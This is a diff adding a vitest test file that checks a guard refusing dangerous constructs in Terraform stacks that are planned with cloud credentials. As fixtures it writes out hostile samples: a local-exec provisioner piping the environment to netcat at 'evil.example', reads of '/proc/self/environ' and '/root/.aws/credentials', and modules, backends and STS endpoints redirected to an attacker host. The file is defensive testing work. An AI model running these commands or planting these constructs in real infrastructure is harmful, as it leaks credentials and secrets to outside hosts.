@@ -1,0 +1,206 @@
+/** What a branch's stacks may not reach for when they are planned with credentials: each way is refused at its place. */
+import { beforeAll, describe, expect, test } from "vitest";
+import { isJsonObject, type Json, type JsonObject } from "../../src/base/json.js";
+import { checkForeign, type ForeignStack } from "../../stacks/check-foreign.js";
+import { makePolicy } from "../support/make-policy.js";
+import { synthesized } from "../support/synthesized.js";
+
+const policy = makePolicy();
+const SERVICES = "algobrain-production-services";
+
+let stacks: readonly ForeignStack[];
+beforeAll(async () => {
+  const { documents } = await synthesized(policy);
+  stacks = Object.entries(documents).map(([name, document]) => ({ name, document }));
+});
+
+function refusals(all: readonly ForeignStack[]): string[] {
+  return checkForeign(all, [policy]).map(({ at, message }) => `${at} ${message}`);
+}
+
+/** `null` takes away. */
+function planted(set: Readonly<Record<string, Json>>): string[] {
+  return refusals(
+    stacks.map(({ name, document }) =>
+      name === SERVICES && isJsonObject(document)
+        ? { name, document: withAll(document, set) }
+        : { name, document },
+    ),
+  );
+}
+
+function withAll(document: JsonObject, set: Readonly<Record<string, Json>>): JsonObject {
+  const copy = structuredClone(document);
+  for (const [path, value] of Object.entries(set)) {
+    const keys = path.split("/");
+    let place: JsonObject = copy;
+    for (const key of keys.slice(0, -1)) {
+      const next = place[key];
+      if (isJsonObject(next)) place = next;
+      else place = place[key] = {};
+    }
+    place[keys.at(-1)!] = value;
+  }
+  return copy;
+}
+
+const SERVICE = "resource/aws_ecs_service/api-service";
+const STATE = "data/terraform_remote_state/network";
+const run = [{ "local-exec": { command: "env | nc evil.example 1" } }];
+const expression = (inner: string) => `\${${inner}}`;
+
+test("what our own synthesis writes is not refused", () => {
+  expect(refusals(stacks)).toEqual([]);
+});
+
+describe("is refused", () => {
+  test.each<[string, Record<string, Json>, RegExp]>([
+    [
+      "a provisioner",
+      { [`${SERVICE}/provisioner`]: run },
+      /provisioner is refused: it runs programs/,
+    ],
+    ["a connection", { [`${SERVICE}/connection`]: {} }, /connection is refused/],
+    ["a module", { "module/x": { source: "git::https://evil.example/x" } }, /module is refused/],
+    [
+      "the data source external",
+      { "data/external/x": { program: ["sh"] } },
+      /external\.x is refused/,
+    ],
+    [
+      "the data source http",
+      { "data/http/x": { url: "https://evil.example" } },
+      /http\.x is refused/,
+    ],
+    ["a template of a file", { "data/template_file/x": {} }, /template_file\.x is refused/],
+    [
+      "a Lambda that runs while planning",
+      { "data/aws_lambda_invocation/x": {} },
+      /runs code, or puts values/,
+    ],
+    [
+      "the value of a secret",
+      { "data/aws_secretsmanager_secret_version/x": {} },
+      /puts values into the plan/,
+    ],
+    [
+      "a resource of another provider",
+      { "resource/null_resource/x": {} },
+      /expected a resource of aws/,
+    ],
+    [
+      "resources in a list",
+      { "resource/aws_sns_topic": [{ x: {} }] },
+      /aws_sns_topic is refused: expected an object/,
+    ],
+    [
+      "a resource as a list",
+      { "resource/aws_sns_topic/x": [{ provisioner: run }] },
+      /aws_sns_topic\.x is refused/,
+    ],
+    ["another provider", { "provider/external": [{}] }, /provider\.external is refused/],
+    [
+      "another provider that is required",
+      { "terraform/required_providers/x": { source: "evil/x" } },
+      /required_providers\.x is refused/,
+    ],
+    [
+      "aws from another source",
+      { "terraform/required_providers/aws/source": "evil.example/x/aws" },
+      /expected source hashicorp\/aws/,
+    ],
+    [
+      "a version that floats",
+      { "terraform/required_providers/aws/version": ">= 6" },
+      /one exact version/,
+    ],
+    [
+      "endpoints of our own credentials",
+      { "provider/aws": [{ endpoints: [{ sts: "https://evil.example" }] }] },
+      /endpoints is refused/,
+    ],
+    ["another role", { "provider/aws": [{ assume_role: [{}] }] }, /assume_role is refused/],
+    ["keys in the provider", { "provider/aws": { access_key: "x" } }, /access_key is refused/],
+    ["Terraform's cloud", { "terraform/cloud": {} }, /terraform\.cloud is refused/],
+    [
+      "another backend",
+      { "terraform/backend": { http: { address: "https://evil.example" } } },
+      /backend is refused: expected exactly/,
+    ],
+    ["another bucket", { "terraform/backend/s3/bucket": "evil" }, /backend is refused/],
+    [
+      "the state of another stack as its own",
+      { "terraform/backend/s3/key": "data.tfstate" },
+      /backend is refused/,
+    ],
+    [
+      "an endpoint of the backend",
+      { "terraform/backend/s3/endpoints": { s3: "https://evil.example" } },
+      /backend is refused/,
+    ],
+    [
+      "a foreign state",
+      { "data/terraform_remote_state/evil": { backend: "http" } },
+      /evil is refused: expected a state of/,
+    ],
+    [
+      "our state elsewhere",
+      { [`${STATE}/config/bucket`]: "evil" },
+      /network is refused: expected exactly/,
+    ],
+    ["a state with defaults", { [`${STATE}/defaults`]: { vpc_id: "x" } }, /network is refused/],
+    ["moved resources", { moved: [] }, /moved is refused/],
+    ["imported resources", { import: [] }, /import is refused/],
+    ["checks", { "check/x": {} }, /check is refused/],
+    ["ephemeral values", { "ephemeral/x": {} }, /ephemeral is refused/],
+    [
+      "a file",
+      { [`${SERVICE}/name`]: expression('file("/proc/self/environ")') },
+      /name is refused: the expression reads a file/,
+    ],
+    [
+      "a file behind a comment",
+      { [`${SERVICE}/name`]: expression('filebase64/* x */ ("/x")') },
+      /reads a file/,
+    ],
+    [
+      "a file in a condition",
+      { "variable/image_tag/default": '%{ if fileexists("/x") }a%{ endif }' },
+      /reads a file/,
+    ],
+    [
+      "a file in a local",
+      { "locals/x": [expression('templatefile("/x", {})')] },
+      /locals\.x\[0\] is refused/,
+    ],
+    [
+      "a function of a provider",
+      { "output/x": { value: expression('provider::evil::run("x")') } },
+      /function of a provider/,
+    ],
+    [
+      "a Lambda from the runner's disk",
+      { "resource/aws_lambda_function/x": { filename: "/root/.aws/credentials" } },
+      /filename is refused: it reads a file/,
+    ],
+  ])("%s", (_what, set, message) => {
+    expect(planted(set)).toContainEqual(expect.stringMatching(message));
+  });
+
+  test("a stack that no environment has, and one that is no object", () => {
+    const evil = { name: "algobrain-production-evil", document: {} };
+    expect(refusals([...stacks, evil])).toEqual([
+      "algobrain-production-evil is refused: no environment of the policies has such a stack",
+    ]);
+    expect(refusals([{ name: SERVICES, document: [] }])).toEqual([
+      `${SERVICES} is refused: expected JSON object`,
+    ]);
+  });
+
+  test("a text that only speaks of files is none", () => {
+    const set = {
+      "output/x": { value: "file (of 2026)", description: expression("var.image_tag") },
+    };
+    expect(planted(set).filter((line) => line.includes("refused"))).toEqual([]);
+  });
+});
